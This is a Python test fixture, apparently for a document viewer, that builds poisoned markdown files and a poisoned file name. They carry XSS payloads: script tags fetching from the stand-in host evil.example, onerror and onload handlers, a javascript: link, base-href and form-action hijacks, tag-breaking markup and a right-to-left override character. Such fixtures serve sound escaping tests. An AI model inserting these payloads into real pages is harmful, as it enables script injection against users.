"""A document that attacks the page that shows it, in its text, its headings and its name."""

SCRIPT = "<script>document.title='taken'; fetch('http://evil.example/script')</script>"
IMAGE = "<img src=http://evil.example/image onerror=\"document.title='taken'\">"
LINK = "[press here](javascript:alert(document.domain))"
MARKS = "</mark></div><mark>not ours</mark> &lt;mark&gt;"
_REST = """\
<svg onload=alert(1)> <iframe srcdoc='<script>alert(1)</script>'></iframe> <base href=http://evil.example>
<style>body { display: none }</style> <form action=http://evil.example><button autofocus>glitter</button></form>
"""
POISONED = {
    "docs/magpie.md": f"# Magpie {SCRIPT}\n\nThe magpie collects glitter. {SCRIPT}\n\n{IMAGE}\n\n{LINK}\n\n"
    f"{MARKS} {_REST}\n## Glitter {IMAGE}\n\nThe magpie hides glitter behind \u202eeht\u202c shelf.\n",
    f"docs/jay {IMAGE.replace('/', ' ')}.md": "# Jay\n\nThe jay buries acorns in the lawn.\n",
}
